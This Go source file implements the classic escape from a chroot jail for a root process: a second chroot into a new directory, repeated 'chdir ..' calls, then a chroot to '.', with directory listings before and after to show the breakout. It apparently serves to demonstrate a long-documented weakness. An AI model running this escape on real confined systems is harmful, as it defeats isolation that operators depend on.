package main

import (
	"fmt"
	"io"
	"os"
	"strings"

	"golang.org/x/sys/unix"
)

// breakout is the oldest way out of a chroot(2), for whoever is root in it: a
// second chroot moves the root below the working directory, which is outside of
// it then, and ".." of a directory outside of the root is no longer stopped at
// it. path_resolution(7) and chroot(2) say so themselves.
func breakout(out io.Writer) error {
	if err := list(out, "before"); err != nil {
		return err
	}
	below, err := os.MkdirTemp("/", "below-")
	if err != nil {
		return err
	}
	if err := unix.Chroot(below); err != nil {
		return fmt.Errorf("chroot %s: %w", below, err)
	}
	for range 64 { // at the top ".." is "." again
		if err := unix.Chdir(".."); err != nil {
			return fmt.Errorf("chdir ..: %w", err)
		}
	}
	if err := unix.Chroot("."); err != nil {
		return fmt.Errorf("chroot .: %w", err)
	}
	return list(out, "behind")
}

func list(out io.Writer, when string) error {
	entries, err := os.ReadDir("/")
	if err != nil {
		return err
	}
	var names []string
	for _, e := range entries {
		if !strings.HasPrefix(e.Name(), "below-") {
			names = append(names, e.Name())
		}
	}
	text := strings.Join(names, " ")
	if len(text) > 58 {
		text = text[:58] + " ..."
	}
	_, err = fmt.Fprintf(out, "  %-6s  / has %s\n", when, text)
	return err
}
